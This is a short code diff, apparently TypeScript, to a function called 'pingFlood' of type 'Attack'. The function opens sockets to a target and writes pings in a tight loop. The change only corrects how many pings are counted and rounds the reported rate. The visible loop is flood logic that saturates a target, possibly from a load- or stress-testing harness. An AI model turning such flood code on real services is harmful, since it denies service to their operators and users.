@@ -21,7 +21,6 @@ export const pingFlood: Attack = async (target) => {
       const ready = await Promise.race([wire.ready, deadline.pause(5_000)]);
       if (ready) sockets++;
       while (ready && !deadline.over && !wire.closed) {
-        sent += 1_000;
         if (wire.socket.write(pings)) await new Promise(setImmediate);
         else
           await Promise.race([
@@ -29,11 +28,12 @@ export const pingFlood: Attack = async (target) => {
             deadline.pause(deadline.left),
           ]);
       }
+      sent += (wire.socket.bytesWritten - wire.socket.writableLength) / 6;
       wire.socket.destroy();
       await deadline.pause(100);
     }
     const rate = Math.round((sent * 1_000) / (performance.now() - begin));
-    return { count: sent, text: `${rate} pings/s on ${sockets} sockets, one at a time` };
+    return { count: Math.round(sent), text: `${rate} pings/s on ${sockets} sockets, one at a time` };
   };
 };
 
